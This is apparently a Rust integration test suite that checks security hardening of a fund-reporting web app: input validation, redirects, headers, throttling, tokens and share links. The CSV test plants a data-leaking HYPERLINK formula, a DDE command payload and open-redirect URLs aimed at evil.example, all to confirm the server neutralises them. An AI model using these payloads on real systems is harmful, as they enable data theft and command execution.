//! Issue 12, security hardening: each finding, probed against the real router on its own
//! PostgreSQL database. The alert-delivery findings (webhook SSRF, Slack escaping) are in
//! `security_webhooks.rs`.

mod common;

use axum::http::StatusCode;
use common::session::{post_login, raw, session_cookie};
use common::{one_at_a_time, spawn_with, TestApp};
use serde_json::{json, Value};

const PERIOD: &str = "2026-09-30";


// ---- 2. Dates outside 1900-01-01..=2200-12-31 ----------------------------------------------------

const OUT_OF_RANGE: [&str; 5] = ["%2B262142-12-31", "-262143-01-01", "1899-12-31", "2201-01-01", "%2B262142-12-31T00:00:00Z"];

#[tokio::test]
async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_field() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    for raw in OUT_OF_RANGE {
        for (query, field) in [
            (format!("state?at={raw}"), "at"),
            (format!("state?known_at={raw}"), "known_at"),
            (format!("timeline?start={raw}"), "start"),
            (format!("timeline?end={raw}"), "end"),
            (format!("diff?from={raw}"), "from"),
            (format!("diff?from=2024-01-01&to={raw}"), "to"),
            (format!("variance?at={raw}"), "at"),
            (format!("variance.csv?known_at={raw}"), "known_at"),
        ] {
            let (s, v) = app.get(&format!("/api/funds/{fund}/{query}")).await;
            assert!(s.is_client_error(), "{query}: {s} {v}");
            assert_eq!(v["field"], field, "{query}: {v}");
        }
    }
}

#[tokio::test]
async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let company = app.company(&fund, "Acme").await;
    for raw in ["+262142-12-31", "-262143-01-01", "1899-12-31T00:00:00Z"] {
        let (s, v) = app.post("/api/funds", json!({"name": "F", "size": "1000", "effective_at": raw})).await;
        assert!(s.is_client_error(), "{raw}: {v}");
        assert_eq!(v["field"], "effective_at", "{v}");
        let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": "CAPITAL_CALLED", "effective_at": raw, "payload": {"amount": "1"}}]})).await;
        assert!(s.is_client_error(), "{raw}: {v}");
        assert_eq!(v["field"], "events[0].effective_at", "{v}");
        let (s, v) = app
            .post(&format!("/api/funds/{fund}/actuals"), json!({"company_id": company, "metric": "REVENUE", "value": "1", "effective_date": raw}))
            .await;
        assert!(s.is_client_error(), "{raw}: {v}");
        assert_eq!(v["field"], "effective_date", "{v}");
    }
    let (s, v) = app
        .post(&format!("/api/funds/{fund}/actuals"), json!({"company_id": company, "metric": "REVENUE", "value": "1", "effective_date": "2025-06-01", "period": "+262142-12-31"}))
        .await;
    assert!(s.is_client_error(), "{v}");
    assert_eq!(v["field"], "period", "{v}");
    for event_type in ["FORECAST_CREATED", "ACTUAL_RECORDED"] {
        let payload = json!({"company_id": company, "metric": "REVENUE", "period": "+262142-12-31", "value": "1"});
        let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": event_type, "payload": payload}]})).await;
        assert!(s.is_client_error(), "{event_type}: {v}");
        assert!(v["field"].as_str().unwrap().contains("period"), "{event_type}: {v}");
    }
    let today = chrono::Utc::now().date_naive();
    let csv = format!("company,metric,value,effective_date,period\n{company},REVENUE,1,+262142-12-31,\n{company},REVENUE,1,{today},-262143-01-01\n");
    let (s, v) = app.send_raw("POST", &format!("/api/funds/{fund}/actuals/import"), "text/csv", csv).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    let columns: Vec<&str> = v["rows"].as_array().unwrap().iter().map(|r| r["column"].as_str().unwrap()).collect();
    assert_eq!(columns, ["effective_date", "period"], "{v}");
}

#[tokio::test]
async fn pages_and_server_functions_answer_4xx_for_dates_outside_the_range() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    for bad in OUT_OF_RANGE {
        for (page, field) in [
            (format!("time-machine?at={bad}"), "at"),
            (format!("time-machine?known_at={bad}"), "known_at"),
            (format!("time-machine?compare={bad}"), "compare"),
            (format!("overview?at={bad}"), "at"),
            (format!("variance?known_at={bad}"), "known_at"),
        ] {
            let (s, _, v) = raw(&app, get_req(&format!("/funds/{fund}/{page}"), Some(&app.token))).await;
            let v = Value::String(v);
            assert!(s.is_client_error(), "{page}: {s}");
            assert!(v.as_str().unwrap().contains(field), "{page}: the page names {field}");
        }
        let form = format!("fund_id={fund}&tab=overview&at={bad}");
        let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
        assert!(s.is_client_error(), "share link at={bad}: {s} {v}");
        assert!(v.to_string().contains("at"), "{v}");
        let form = format!("fund_id={fund}&at=&known_at={bad}");
        let (s, v) = app.send_raw("POST", "/sfn/get_variance_page", "application/x-www-form-urlencoded", form).await;
        assert!(s.is_client_error(), "variance page known_at={bad}: {s} {v}");
    }
}

// ---- 3. Open redirect after sign-in ---------------------------------------------------------------



async fn sign_in(app: &TestApp, email: &str, password: &str, next: &str) -> (StatusCode, String) {
    let (s, h) = post_login(app, email, password, next).await;
    (s, h.get("location").map(|l| l.to_str().unwrap().to_string()).unwrap_or_default())
}

#[tokio::test]
async fn sign_in_only_follows_next_to_a_same_origin_path() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    for next in ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "/ok\\..\\x", "evil.example"] {
        let (s, location) = sign_in(&app, "owner@test.local", common::PASSWORD, next).await;
        assert_eq!(s, StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(location, "/", "{next:?} is not followed");
        let (_, location) = sign_in(&app, "owner@test.local", "wrong password", next).await;
        assert!(location.starts_with("/login?") && !location.contains("next="), "{next:?} is not carried back to the form: {location}");
    }
    let (_, location) = sign_in(&app, "owner@test.local", common::PASSWORD, "/funds/x/overview?at=2024-01-01").await;
    assert_eq!(location, "/funds/x/overview?at=2024-01-01");
}

// ---- 4. Security headers ------------------------------------------------------------------------

fn get_req(uri: &str, token: Option<&str>) -> axum::http::Request<axum::body::Body> {
    let mut r = axum::http::Request::get(uri);
    if let Some(t) = token {
        r = r.header("authorization", format!("Bearer {t}"));
    }
    r.body(axum::body::Body::empty()).unwrap()
}

fn header<'a>(h: &'a axum::http::HeaderMap, name: &str) -> &'a str {
    h.get(name).map(|v| v.to_str().unwrap()).unwrap_or("")
}

/// The text of each `<script>` without `src` (the test's own, simpler reading of the page).
fn scripts(html: &str) -> Vec<String> {
    html.split("<script").skip(1).filter_map(|rest| {
        let (tag, body) = rest.split_once('>')?;
        (!tag.contains(" src=")).then(|| body.split("</script>").next().unwrap_or("").to_string())
    }).filter(|s| !s.is_empty()).collect()
}

fn assert_common_headers(h: &axum::http::HeaderMap, what: &str) {
    assert_eq!(header(h, "x-content-type-options"), "nosniff", "{what}");
    assert_eq!(header(h, "x-frame-options"), "DENY", "{what}");
    assert!(header(h, "content-security-policy").contains("frame-ancestors 'none'"), "{what}");
}

#[tokio::test]
async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache() {
    let _serial = one_at_a_time();
    use base64::Engine;
    use sha2::Digest;
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let page = format!("/funds/{fund}/overview");
    for outcome in ["miss", "hit"] {
        let (s, h, html) = raw(&app, get_req(&page, Some(&app.token))).await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(header(&h, "x-page-cache"), outcome);
        assert_common_headers(&h, &page);
        assert_eq!(header(&h, "referrer-policy"), "same-origin");
        assert_eq!(header(&h, "cache-control"), "private, no-store");
        assert_eq!(header(&h, "strict-transport-security"), "max-age=31536000; includeSubDomains", "COOKIE_SECURE defaults to true");
        let csp = header(&h, "content-security-policy");
        assert!(csp.contains("script-src 'self' 'wasm-unsafe-eval'"), "{csp}");
        assert!(csp.contains("connect-src 'self'") && csp.contains("object-src 'none'") && csp.contains("base-uri 'none'"), "{csp}");
        assert!(!csp.contains("unsafe-inline"), "{csp}");
        assert_eq!(header(&h, "x-fundlens-script-nonce"), "", "{outcome}: the render's nonce stays inside the server");
        let inline = scripts(&html);
        assert!(!inline.is_empty(), "the hydration loader is an inline script");
        for script in inline {
            let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(script.as_bytes()));
            assert!(csp.contains(&format!("'sha256-{hash}'")), "{outcome}: the CSP allows the page's inline script by hash: {csp}");
        }
    }
    let (_, h, _) = raw(&app, get_req("/api/funds", Some(&app.token))).await;
    assert_common_headers(&h, "/api/funds");
    assert_eq!(header(&h, "content-security-policy"), "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
    assert_eq!(header(&h, "cache-control"), "private, no-store");
    let (_, h, _) = raw(&app, get_req("/login", None)).await;
    assert_common_headers(&h, "/login");
    assert!(header(&h, "content-security-policy").contains("form-action 'self'"));

    let plain = spawn_with(&[("ALERT_WORKER", "false"), ("COOKIE_SECURE", "false")]).await;
    let (_, h, _) = raw(&plain, get_req("/login", None)).await;
    assert_eq!(header(&h, "strict-transport-security"), "", "no HSTS over plain HTTP");
}

#[tokio::test]
async fn share_pages_send_no_referrer_and_are_not_stored() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let form = format!("fund_id={fund}&tab=overview");
    let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let path = v["path"].as_str().unwrap().to_string();
    let (s, h, _) = raw(&app, get_req(&path, None)).await;
    assert_eq!(s, StatusCode::OK);
    assert_common_headers(&h, &path);
    assert_eq!(header(&h, "referrer-policy"), "no-referrer");
    assert_eq!(header(&h, "cache-control"), "no-store");
}

// ---- 6. CSV formula injection -------------------------------------------------------------------

#[tokio::test]
async fn company_names_in_the_variance_export_cannot_run_as_formulas() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(400).await;
    let evil = r#"=HYPERLINK("https://x/?"&B2,"x")"#;
    let mut companies = Vec::new();
    for name in [evil, "@SUM(1+1)", "-cmd|' /C calc'!A0", "Plain Co"] {
        let company = app.company(&fund, name).await;
        app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
        let (s, v) = app
            .post(
                &format!("/api/funds/{fund}/actuals"),
                json!({"company_id": company, "metric": "REVENUE", "value": "700000", "effective_date": common::days_ago(1), "period": PERIOD}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        companies.push(company);
    }
    let (s, v) = app.get(&format!("/api/funds/{fund}/variance.csv")).await;
    assert_eq!(s, StatusCode::OK);
    let text = v.as_str().unwrap();
    let cells: Vec<String> = text
        .lines()
        .skip(1)
        .flat_map(|line| split_csv_line(line))
        .collect();
    assert_eq!(text.lines().count(), 5, "{text}");
    for cell in &cells {
        let risky = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
        assert!(!risky, "cell {cell:?} would run as a formula:\n{text}");
    }
    assert!(cells.contains(&format!("'{evil}")), "{text}");
    assert!(cells.contains(&"'@SUM(1+1)".to_string()));
    assert!(cells.iter().any(|c| c.starts_with('-') && c.parse::<f64>().is_ok_and(|n| n < 0.0)), "negative variances stay numeric: {text}");
    let (_, v) = app.get(&format!("/api/funds/{fund}/actuals/template.csv")).await;
    for cell in v.as_str().unwrap().lines().flat_map(|l| split_csv_line(l)) {
        assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
    }
}

/// Splits one CSV line (quotes doubled inside quoted fields; no newlines in these files).
fn split_csv_line(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

// ---- 5. Page cache and the token's role cap -------------------------------------------------------

#[tokio::test]
async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let (_, viewer_token) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
    let page = format!("/funds/{fund}/overview");
    let (s, h, admin_html) = raw(&app, get_req(&page, Some(&app.token))).await;
    assert_eq!((s, header(&h, "x-page-cache")), (StatusCode::OK, "miss"));
    assert!(admin_html.contains(r#"data-test="share""#), "the admin token's page offers share links");
    for _ in 0..2 {
        let (s, _, viewer_html) = raw(&app, get_req(&page, Some(&viewer_token))).await;
        assert_eq!(s, StatusCode::OK);
        assert!(!viewer_html.contains(r#"data-test="share""#), "the viewer-capped token sees a viewer's page");
    }
    let (_, h, _) = raw(&app, get_req(&page, Some(&app.token))).await;
    assert_eq!(header(&h, "x-page-cache"), "hit", "the admin's page is still cached for the admin");
}

// ---- 7. Login throttle race and the bound on password checks ----------------------------------------

#[tokio::test]
async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
    let _serial = one_at_a_time();
    let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "64")]).await);
    let attempts = (0..20).map(|_| {
        let app = app.clone();
        tokio::spawn(async move { sign_in(&app, "owner@test.local", "wrong password", "/").await })
    });
    let mut wrong = 0;
    for a in attempts {
        let (s, location) = a.await.unwrap();
        assert_eq!(s, StatusCode::SEE_OTHER);
        if location.contains("Wrong") {
            wrong += 1;
        } else {
            assert!(location.contains("Too+many"), "{location}");
        }
    }
    assert_eq!(wrong, 5, "exactly LOGIN_MAX_FAILURES_PER_ACCOUNT attempts reach the password check");
    let counted: i64 = sqlx::query_scalar("SELECT count(*) FROM login_failures WHERE email = 'owner@test.local'").fetch_one(app.store.pool()).await.unwrap();
    assert_eq!(counted, 5);
    let (_, location) = sign_in(&app, "owner@test.local", common::PASSWORD, "/").await;
    assert!(location.contains("Too+many"), "the right password is refused while locked: {location}");
}

#[tokio::test]
async fn sign_ins_beyond_the_password_check_bound_get_503_with_retry_after() {
    let _serial = one_at_a_time();
    let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "1")]).await);
    let attempts: Vec<_> = (0..8)
        .map(|i| {
            let app = app.clone();
            tokio::spawn(async move {
                let form = format!("email=nobody{i}%40test.local&password=wrong+password");
                let req = axum::http::Request::post("/login").header("content-type", "application/x-www-form-urlencoded").body(axum::body::Body::from(form)).unwrap();
                let (s, h, _) = raw(&app, req).await;
                (s, header(&h, "retry-after").to_string())
            })
        })
        .collect();
    let mut busy = 0;
    for a in attempts {
        let (s, retry_after) = a.await.unwrap();
        match s {
            StatusCode::SEE_OTHER => {}
            StatusCode::SERVICE_UNAVAILABLE => {
                assert_eq!(retry_after, "1");
                busy += 1;
            }
            other => panic!("unexpected {other}"),
        }
    }
    assert!(busy >= 1, "with one slot, parallel sign-ins are refused rather than queued");
    let counted: i64 = app.count("login_failures").await;
    assert_eq!(counted, 8 - busy, "refused attempts are not counted as failures");
}

// ---- 8. X-Forwarded-For behind trusted proxies --------------------------------------------------

async fn failed_sign_in_address(env: &[(&str, &str)], forwarded_for: &str) -> String {
    let mut vars = vec![("ALERT_WORKER", "false"), ("TRUST_FORWARDED_FOR", "true")];
    vars.extend_from_slice(env);
    let app = spawn_with(&vars).await;
    let req = axum::http::Request::post("/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("x-forwarded-for", forwarded_for)
        .body(axum::body::Body::from("email=owner%40test.local&password=wrong+password"))
        .unwrap();
    let (s, _, _) = raw(&app, req).await;
    assert_eq!(s, StatusCode::SEE_OTHER);
    sqlx::query_scalar("SELECT address FROM login_failures").fetch_one(app.store.pool()).await.unwrap()
}

#[tokio::test]
async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwarded_for() {
    let _serial = one_at_a_time();
    // The client wrote "6.6.6.6" itself; the one proxy appended the address it really saw.
    assert_eq!(failed_sign_in_address(&[], "6.6.6.6, 203.0.113.7").await, "203.0.113.7");
    assert_eq!(failed_sign_in_address(&[("TRUSTED_PROXY_HOPS", "2")], "6.6.6.6, 198.51.100.2, 203.0.113.7").await, "198.51.100.2");
}

// ---- 10. Token caps on routes open to any signed-in user ----------------------------------------

#[tokio::test]
async fn a_viewer_capped_token_cannot_create_funds() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let (_, viewer) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
    let (_, analyst) = app.store.create_api_token(app.owner.id, "writer", domain::access::Role::Analyst).await.unwrap();
    let body = json!({"name": "Side Fund", "size": "1000000"});
    let (s, v) = app.call_as(Some(&viewer), "POST", "/api/funds", Some(body.clone())).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{v}");
    assert!(v["error"].as_str().unwrap().contains("capped at viewer"), "{v}");
    let (s, _) = app.call_as(Some(&viewer), "GET", "/api/funds", None).await;
    assert_eq!(s, StatusCode::OK, "reading stays allowed");
    let (s, v) = app.call_as(Some(&analyst), "POST", "/api/funds", Some(body)).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    assert_eq!(app.count("funds").await, 1);
}

// ---- 11. Share links: stored expiry, no e-mail for readers, signing-key rotation --------------------

async fn share_link(app: &TestApp, fund: &str) -> String {
    let form = format!("fund_id={fund}&tab=overview");
    let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v["path"].as_str().unwrap().to_string()
}

async fn read_shared(app: &TestApp, path: &str) -> String {
    let (_, _, html) = raw(app, get_req(path, None)).await;
    html
}

#[tokio::test]
async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let path = share_link(&app, &fund).await;
    let html = read_shared(&app, &path).await;
    assert!(html.contains(r#"data-test="shared-report""#), "{html}");
    assert!(!html.contains("owner@test.local"), "anonymous readers do not learn who shared the link");
    // The link's expiry is shortened in the database; its token still carries the old one.
    sqlx::query("UPDATE share_links SET expires_at = now() - interval '1 hour'").execute(app.store.pool()).await.unwrap();
    let html = read_shared(&app, &path).await;
    assert!(!html.contains(r#"data-test="shared-report""#) && html.contains("expired"), "{html}");
}

#[tokio::test]
async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_valid() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let old = share_link(&app, &fund).await;
    app.store.rotate_server_secret(app::accounts::share_token::SECRET_NAME).await.unwrap();
    assert!(read_shared(&app, &old).await.contains(r#"data-test="shared-report""#), "signed with the retired key, still valid");
    let new = share_link(&app, &fund).await;
    assert_ne!(new.rsplit('.').next(), old.rsplit('.').next());
    assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
    // Retired longer ago than any link can live (365 days): its signatures no longer count.
    sqlx::query("UPDATE server_secrets SET name = 'share_links.retired.1000' WHERE name LIKE 'share_links.retired.%'").execute(app.store.pool()).await.unwrap();
    let html = read_shared(&app, &old).await;
    assert!(html.contains("not valid"), "{html}");
    assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
}

// ---- 15. /metrics only for the scraper; 401s name their scheme --------------------------------------

fn metrics_req(bearer: Option<&str>, peer: Option<&str>) -> axum::http::Request<axum::body::Body> {
    let mut req = get_req("/metrics", bearer);
    if let Some(peer) = peer {
        req.extensions_mut().insert(axum::extract::ConnectInfo::<std::net::SocketAddr>(peer.parse().unwrap()));
    }
    req
}

#[tokio::test]
async fn metrics_need_the_metrics_token_or_a_loopback_peer() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false"), ("METRICS_TOKEN", "scrape-secret-123")]).await;
    for (bearer, peer) in [(None, Some("127.0.0.1:5000")), (Some(app.token.as_str()), None), (Some("wrong"), None)] {
        let (s, h, _) = raw(&app, metrics_req(bearer, peer)).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED, "{bearer:?} {peer:?}");
        assert_eq!(header(&h, "www-authenticate"), "Bearer realm=\"metrics\"");
    }
    let (s, _, text) = raw(&app, metrics_req(Some("scrape-secret-123"), Some("203.0.113.9:5000"))).await;
    assert_eq!(s, StatusCode::OK);
    assert!(text.contains("http_requests_total"), "{text}");

    let open = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let (s, h, _) = raw(&open, metrics_req(None, Some("203.0.113.9:5000"))).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "without METRICS_TOKEN only loopback peers");
    assert!(header(&h, "www-authenticate").starts_with("Bearer"));
    let (s, _, _) = raw(&open, metrics_req(None, Some("[::1]:5000"))).await;
    assert_eq!(s, StatusCode::OK);

    let (s, h, _) = raw(&open, get_req("/api/funds", None)).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert_eq!(header(&h, "www-authenticate"), "Bearer realm=\"fundlens\"", "API 401s name the scheme too");
}

// ---- 9. Alert fan-out (in part: rules per fund, cooldown of outbound channels) ----------------------

#[tokio::test]
async fn outbound_rules_need_a_cooldown_and_a_fund_has_at_most_fifty_rules() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let fund = app.fund(30).await;
    let rules = format!("/api/funds/{fund}/alert-rules");
    let rule = |channel: &str, cooldown: u32| {
        json!({"comparison": "outside", "threshold": "5", "unit": "percent", "severity": "info", "channels": [channel], "cooldown_days": cooldown})
    };
    for channel in ["webhook", "email"] {
        let (s, v) = app.post(&rules, rule(channel, 0)).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
        assert_eq!(v["field"], "cooldown_days", "{v}");
    }
    let (s, v) = app.post(&rules, rule("in_app", 0)).await;
    assert_eq!(s, StatusCode::CREATED, "in-app alerts send nothing out: {v}");
    let (_, list) = app.get(&rules).await;
    for _ in list.as_array().unwrap().len()..50 {
        let (s, v) = app.post(&rules, rule("webhook", 1)).await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let (s, v) = app.post(&rules, rule("in_app", 1)).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["field"], "rules", "{v}");
    assert_eq!(app.get(&rules).await.1.as_array().unwrap().len(), 50);
}

// ---- 13. API tokens (in part: a password change revokes them) ----------------------------------------

#[tokio::test]
async fn a_password_change_revokes_the_users_api_tokens() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let (s, _) = app.get("/api/funds").await;
    assert_eq!(s, StatusCode::OK);
    let other = common::create_user(&app.store, "other@test.local").await;
    let (_, other_token) = app.store.create_api_token(other.id, "theirs", domain::access::Role::Viewer).await.unwrap();
    let hash = app::accounts::password::hash_password("a brand new password".to_string()).await.unwrap();
    app.store.set_password_hash(app.owner.id, &hash).await.unwrap();
    let (s, v) = app.get("/api/funds").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "the owner's token is revoked: {v}");
    let (s, _) = app.call_as(Some(&other_token), "GET", "/api/funds", None).await;
    assert_eq!(s, StatusCode::OK, "other users' tokens are untouched");
}


async fn change_password(app: &TestApp, cookie: &str, current: &str, new: &str, confirm: &str) -> (StatusCode, String) {
    let form = form_urlencoded::Serializer::new(String::new())
        .append_pair("current_password", current)
        .append_pair("new_password", new)
        .append_pair("confirm_password", confirm)
        .finish();
    let req = axum::http::Request::post("/sfn/change_password")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("accept", "application/json")
        .header("cookie", cookie)
        .body(axum::body::Body::from(form))
        .unwrap();
    let (s, _, body) = raw(app, req).await;
    (s, body)
}

#[tokio::test]
async fn users_change_their_own_password_from_a_session_which_ends_every_session_and_token() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let cookie = session_cookie(&app, "owner@test.local", common::PASSWORD).await.expect("signed in");
    let (s, _, page) = raw(&app, axum::http::Request::get("/account").header("cookie", &cookie).body(axum::body::Body::empty()).unwrap()).await;
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains("data-test=\"password-form\""), "the account page offers the form");

    let new = "a different long password";
    for (current, new_pw, confirm, field) in [
        ("wrong password!", new, new, "current_password:"),
        (common::PASSWORD, new, "something else entirely", "confirm_password:"),
        (common::PASSWORD, "short", "short", "new_password:"),
        (common::PASSWORD, common::PASSWORD, common::PASSWORD, "new_password:"),
        ("", new, new, "current_password:"),
    ] {
        let (s, body) = change_password(&app, &cookie, current, new_pw, confirm).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{field} {body}");
        assert!(body.contains(field), "{field} named: {body}");
    }
    // A token cannot change the password (browser sessions only).
    let req = axum::http::Request::post("/sfn/change_password")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("authorization", format!("Bearer {}", app.token))
        .body(axum::body::Body::from(format!("current_password={}&new_password=x&confirm_password=x", common::PASSWORD)))
        .unwrap();
    assert_eq!(raw(&app, req).await.0, StatusCode::FORBIDDEN);
    // Nothing changed so far: the old password still signs in, the token still works.
    assert!(session_cookie(&app, "owner@test.local", common::PASSWORD).await.is_some());
    assert_eq!(app.get("/api/funds").await.0, StatusCode::OK);

    let (s, body) = change_password(&app, &cookie, common::PASSWORD, new, new).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let (s, _, _) = raw(&app, axum::http::Request::get("/account").header("cookie", &cookie).body(axum::body::Body::empty()).unwrap()).await;
    assert!(s.is_redirection() || s == StatusCode::UNAUTHORIZED, "the session ended: {s}");
    assert_eq!(app.get("/api/funds").await.0, StatusCode::UNAUTHORIZED, "the user's tokens are revoked");
    assert!(session_cookie(&app, "owner@test.local", common::PASSWORD).await.is_none(), "the old password no longer signs in");
    assert!(session_cookie(&app, "owner@test.local", new).await.is_some(), "the new one does");
}

#[tokio::test]
async fn api_tokens_may_expire_and_an_expired_token_answers_401() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
    let cookie = session_cookie(&app, "owner@test.local", common::PASSWORD).await.expect("signed in");
    let create = |days: &str| {
        axum::http::Request::post("/sfn/create_api_token")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("accept", "application/json")
            .header("cookie", &cookie)
            .body(axum::body::Body::from(format!("name=sync&max_role=viewer&expires_in_days={days}")))
            .unwrap()
    };
    for (days, status) in [("0", StatusCode::UNPROCESSABLE_ENTITY), ("3651", StatusCode::UNPROCESSABLE_ENTITY), ("soon", StatusCode::BAD_REQUEST), ("-3", StatusCode::BAD_REQUEST)] {
        let (s, _, body) = raw(&app, create(days)).await;
        assert_eq!(s, status, "{days}: {body}");
        assert!(body.contains("expires_in_days:"), "{days}: {body}");
    }
    let (s, _, body) = raw(&app, create("30")).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).unwrap();
    let token = created["token"].as_str().unwrap().to_string();
    let expires: chrono::DateTime<chrono::Utc> = created["info"]["expires_at"].as_str().unwrap().parse().unwrap();
    let days = (expires - chrono::Utc::now()).num_hours() as f64 / 24.0;
    assert!((29.9..=30.1).contains(&days), "expires in {days} days");
    assert_eq!(app.call_as(Some(&token), "GET", "/api/funds", None).await.0, StatusCode::OK);
    let (s, _, body) = raw(&app, create("never")).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(serde_json::from_str::<serde_json::Value>(&body).unwrap()["info"]["expires_at"].is_null());

    // A token past its expiry is refused (here one that has not been used yet, so no process
    // has it cached).
    let (info, late) = app.store.create_expiring_api_token(&app::store::AuditActor::command_line(), app.owner.id, "late", domain::access::Role::Viewer, Some(1)).await.unwrap();
    sqlx::query("UPDATE api_tokens SET expires_at = now() - interval '1 second' WHERE id = $1").bind(info.id).execute(app.store.pool()).await.unwrap();
    let (s, v) = app.call_as(Some(&late), "GET", "/api/funds", None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "{v}");
}

#[tokio::test]
async fn wrong_current_passwords_on_the_password_form_count_against_the_sign_in_limit() {
    let _serial = one_at_a_time();
    let app = spawn_with(&[("ALERT_WORKER", "false"), ("LOGIN_MAX_FAILURES_PER_ACCOUNT", "3")]).await;
    let cookie = session_cookie(&app, "owner@test.local", common::PASSWORD).await.expect("signed in");
    let new = "a different long password";
    for _ in 0..3 {
        let (s, body) = change_password(&app, &cookie, "a wrong guess!!", new, new).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    }
    // The limit is reached: even the right password is refused until the window passes, and the
    // sign-in form is locked for the account too.
    let (s, body) = change_password(&app, &cookie, common::PASSWORD, new, new).await;
    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert!(body.contains("current_password:"), "{body}");
    assert!(session_cookie(&app, "owner@test.local", common::PASSWORD).await.is_none(), "sign-in is locked as well");
}
